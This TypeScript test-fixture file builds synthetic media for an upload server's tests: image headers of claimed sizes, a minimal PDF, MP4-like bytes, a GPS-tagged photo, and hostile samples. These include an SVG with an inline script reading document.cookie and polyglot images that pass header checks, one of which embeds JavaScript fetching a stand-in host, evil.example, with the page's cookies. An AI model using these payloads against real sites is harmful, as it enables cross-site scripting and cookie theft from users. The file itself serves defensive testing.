// Files for the media tests, made byte by byte: real, decodable images (a browser shows them), headers that
// claim any pixel size, polyglots, PDFs and video containers.
import { crc32, deflateSync } from "node:zlib";

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A PNG of the given size. With `pixels` (the default for small images) it is a complete, decodable RGB image
 * of one colour; without, only its header and an empty data chunk (a header claiming a size is what the
 * server reads; 30000x30000 pixels would not fit in memory anyway).
 */
export function png(
  width: number,
  height: number,
  options: { pixels?: boolean; rgb?: [number, number, number] } = {},
): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const withPixels = options.pixels ?? width * height <= 1_000_000;
  let data = Buffer.alloc(0);
  if (withPixels) {
    const [r, g, b] = options.rgb ?? [37, 99, 235];
    const row = Buffer.alloc(1 + width * 3);
    for (let x = 0; x < width; x++) row.set([r, g, b], 1 + x * 3);
    data = deflateSync(Buffer.concat(Array.from({ length: height }, () => row)));
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", data),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A JPEG's markers up to its frame header (SOF0 with the size), with an EXIF-like APP1 segment before it. */
export function jpeg(width: number, height: number, options: { app1Bytes?: number } = {}): Buffer {
  const app0 = Buffer.from([
    0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00,
  ]);
  const app1Length = options.app1Bytes ?? 100;
  const app1 = Buffer.alloc(2 + 2 + app1Length);
  app1.writeUInt16BE(0xffe1, 0);
  app1.writeUInt16BE(app1Length + 2, 2);
  const sof = Buffer.from([
    0xff, 0xc0, 0x00, 0x11, 0x08, 0, 0, 0, 0, 0x03, 0x01, 0x22, 0x00, 0x02, 0x11, 0x01, 0x03, 0x11, 0x01,
  ]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, app1, sof, Buffer.from([0xff, 0xd9])]);
}

export function gif(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.write("GIF89a", 0, "latin1");
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  return Buffer.concat([head, Buffer.from([0x3b])]);
}

/** A WebP header of the lossless (VP8L), lossy (VP8 ) or extended (VP8X) kind. */
export function webp(width: number, height: number, kind: "VP8L" | "VP8 " | "VP8X" = "VP8L"): Buffer {
  const out = Buffer.alloc(40);
  out.write("RIFF", 0, "latin1");
  out.writeUInt32LE(32, 4);
  out.write("WEBP", 8, "latin1");
  out.write(kind, 12, "latin1");
  out.writeUInt32LE(20, 16);
  if (kind === "VP8L") {
    out[20] = 0x2f;
    out.writeUInt32LE(((width - 1) & 0x3fff) | (((height - 1) & 0x3fff) << 14), 21);
  } else if (kind === "VP8 ") {
    out.set([0x9d, 0x01, 0x2a], 23);
    out.writeUInt16LE(width & 0x3fff, 26);
    out.writeUInt16LE(height & 0x3fff, 28);
  } else {
    out.writeUIntLE(width - 1, 24, 3);
    out.writeUIntLE(height - 1, 27, 3);
  }
  return out;
}

export const safeSvg = Buffer.from(
  `<?xml version="1.0" encoding="UTF-8"?>
<!-- a drawing -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" viewBox="0 0 120 60">
  <defs><linearGradient id="g"><stop offset="0" stop-color="#2563eb"/><stop offset="1" stop-color="#10b981"/></linearGradient></defs>
  <style><![CDATA[ .label { font: 12px sans-serif; fill: #111 } ]]></style>
  <rect width="120" height="60" rx="8" fill="url(#g)"/>
  <use xlink:href="#g"/>
  <text x="10" y="35" class="label">Studium &amp; co</text>
</svg>
`,
);

export const svgWithScript = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>`,
);

/** A minimal, valid one-page PDF. */
export function pdf(): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
  ];
  let body = "%PDF-1.4\n";
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** Bytes that start like an MP4 (an ftyp box), followed by `size` bytes of a repeating pattern. */
export function mp4Like(size: number): Buffer {
  const ftyp = Buffer.from([
    0x00, 0x00, 0x00, 0x18, 0x66, 0x74, 0x79, 0x70, 0x69, 0x73, 0x6f, 0x6d, 0x00, 0x00, 0x02, 0x00, 0x69, 0x73, 0x6f,
    0x6d, 0x6d, 0x70, 0x34, 0x31,
  ]);
  const rest = Buffer.alloc(Math.max(0, size - ftyp.length));
  for (let i = 0; i < rest.length; i++) rest[i] = (i * 31 + 7) & 0xff;
  return Buffer.concat([ftyp, rest]).subarray(0, size);
}

export type RasterKind = "png" | "jpeg" | "gif" | "webp";

/** A real, decodable image of one colour made by sharp (what a camera or an editor would give). */
export async function realImage(type: RasterKind, width: number, height: number): Promise<Buffer> {
  const { default: sharp } = await import("sharp");
  const image = sharp({ create: { width, height, channels: 3, background: { r: 200, g: 60, b: 30 } } });
  return image.toFormat(type).toBuffer();
}

/** What an image decodes to: its format, size (upright) and the metadata it still carries. */
export async function decodeImage(bytes: Buffer) {
  const { default: sharp } = await import("sharp");
  const meta = await sharp(bytes, { animated: true }).metadata();
  return {
    format: meta.format,
    width: meta.width,
    height: meta.pageHeight ?? meta.height,
    pages: meta.pages ?? 1,
    exif: meta.exif,
    xmp: meta.xmp,
    comments: meta.comments,
  };
}

const GIF_TRAILER = 0x3b;

/**
 * Three polyglots with valid headers that a header check lets through (the hole 12):
 * - gif: a real GIF89a with JavaScript in a comment extension; gifTrailing: one with JavaScript after its
 *   trailer (browsers and decoders ignore both; a <script src> pointing at it would not);
 * - jpeg: a real JPEG with a whole HTML page in a COM (comment) segment;
 * - png: a real PNG with an HTML tEXt chunk and a trailing <script> after IEND.
 * Each carries the marker `studium-polyglot` inside its payload.
 */
export async function polyglots(
  width: number,
  height: number,
): Promise<Record<"gif" | "gifTrailing" | "jpeg" | "png", Buffer>> {
  const js = Buffer.from(`*/=1;fetch("//evil.example/"+document.cookie);alert("studium-polyglot");/*`, "latin1");
  const gifImage = await realImage("gif", width, height);
  expectTrailer(gifImage);
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, js.length]), js, Buffer.from([0x00])]);
  const gifPolyglot = Buffer.concat([gifImage.subarray(0, gifImage.length - 1), comment, Buffer.from([GIF_TRAILER])]);
  const gifTrailing = Buffer.concat([gifImage, Buffer.from(`\n;alert("studium-polyglot");//`, "latin1")]);

  const html = Buffer.from(`<html><body><script>alert("studium-polyglot")</script></body></html>`, "latin1");
  const jpegImage = await realImage("jpeg", width, height);
  const com = Buffer.alloc(4);
  com.writeUInt16BE(0xfffe, 0);
  com.writeUInt16BE(html.length + 2, 2);
  const jpegPolyglot = Buffer.concat([jpegImage.subarray(0, 2), com, html, jpegImage.subarray(2)]);

  const pngImage = await realImage("png", width, height);
  const iend = pngImage.length - 12;
  const text = Buffer.concat([Buffer.from("Comment\0", "latin1"), html]);
  const pngPolyglot = Buffer.concat([
    pngImage.subarray(0, iend),
    pngChunk("tEXt", text),
    pngImage.subarray(iend),
    Buffer.from(`<script>alert("studium-polyglot")</script>`, "latin1"),
  ]);
  return { gif: gifPolyglot, gifTrailing, jpeg: jpegPolyglot, png: pngPolyglot };
}

function expectTrailer(bytes: Buffer): void {
  if (bytes[bytes.length - 1] !== GIF_TRAILER) throw new Error("sharp's GIF does not end with its trailer");
}

/**
 * A JPEG photo as a phone saves it: EXIF with a GPS position, the camera's owner and orientation 6 (the
 * pixels are stored sideways: `width` x `height` shows upright as `height` x `width`).
 */
export async function photoWithGps(width: number, height: number): Promise<Buffer> {
  const { default: sharp } = await import("sharp");
  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 120, b: 200 } } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Artist: "studium-exif-owner" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 13/1 4/1", GPSLongitudeRef: "E", GPSLongitude: "21/1 0/1 40/1" },
    })
    .toBuffer();
}
